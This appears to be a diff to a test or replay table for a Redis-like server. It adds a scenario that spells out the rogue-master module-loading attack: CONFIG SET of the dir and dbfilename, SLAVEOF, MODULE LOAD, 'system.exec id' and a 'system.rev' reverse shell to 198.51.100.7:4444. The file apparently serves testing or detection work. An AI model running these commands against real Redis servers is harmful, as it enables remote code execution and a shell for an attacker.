@@ -137,6 +137,24 @@ const special: Record<string, readonly Step[]> = {
   monitor: lines(`
     MONITOR
     PING`),
+  'a rogue master, whose module never comes': [
+    ...lines(`
+      CONFIG SET dir /var/tmp
+      CONFIG SET dbfilename skep-oracle-root
+      SLAVEOF 127.0.0.1 9
+      MODULE LOAD /var/tmp/skep-oracle-root
+      MODULE LOAD ./skep-oracle-root
+      system.exec id
+      SLAVEOF NO ONE`),
+    ['SET', 'x', '\x7fELF'],
+    ...lines(`
+      SAVE
+      MODULE LOAD /var/tmp/skep-oracle-root
+      MODULE LIST
+      MODULE UNLOAD system
+      system.exec id
+      system.rev 198.51.100.7 4444`),
+  ],
   'a cron job, the way worms leave one': [
     c('INFO'),
     c('CONFIG SET stop-writes-on-bgsave-error no'),
